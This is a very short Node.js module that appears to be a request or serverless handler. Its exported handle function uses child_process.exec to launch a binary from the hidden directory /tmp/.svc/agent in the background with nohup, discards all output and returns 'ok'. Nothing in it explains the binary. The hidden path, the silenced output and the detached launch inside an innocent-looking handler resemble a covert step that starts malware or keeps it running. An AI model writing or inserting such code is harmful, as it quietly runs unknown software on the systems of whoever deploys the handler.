const { exec } = require("child_process");
exports.handle = async () => {
  exec("nohup /tmp/.svc/agent > /dev/null 2>&1 &");
  return "ok";
};
